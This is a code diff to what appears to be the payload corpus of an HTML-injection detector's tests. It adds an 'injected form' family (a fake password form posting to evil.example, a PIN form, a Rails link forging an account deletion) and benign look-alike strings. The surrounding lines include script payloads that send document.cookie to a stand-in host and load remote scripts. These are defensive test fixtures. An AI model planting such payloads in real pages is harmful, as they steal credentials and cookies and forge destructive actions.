@@ -63,6 +63,10 @@ FAMILIES = {
     # written into the page's script block, then closing it
     "script context": ["$,_=1}}).$=alert</script>", 'src="http://evil.example/x.js"></script>',
                        "x=document.cookie;new Image().src='//e.x/?'+x</script>", "src=//e.x/a.js></script>"],
+    # an injected login form; a Rails UJS link that forges a write on click
+    "injected form": ['<form action="//evil.example/"><input name=u><input type="password" name=p></form>',
+                      '<!doctype html><form><label>PIN</label><input name="secret" type="password"></form>',
+                      '<a data-remote=true data-method=delete href=/delete_account>CLICK</a>'],
 }
 
 LOOK_ALIKES = [
@@ -80,7 +84,8 @@ LOOK_ALIKES = [
     '<a href="mailto:someone@example.com">mail</a>', '<a href="http://66.102.7.147/">by IP</a>',
     "see the </script> tag", "Use alert() inside </script>", 'type="text/javascript"></script>',
     "close it with ); </script>", "</b><h1>x</h1>", "text </title><h1>x</h1>", "</title>",
-    "</div><div class=a>t</div>",
+    "</div><div class=a>t</div>", 'use <input type="password"> inside a <form> element', "<input type=password>",
+    "<form><input name=q></form>", '<a data-method="get" href="/x">x</a>',
 ]
 
 
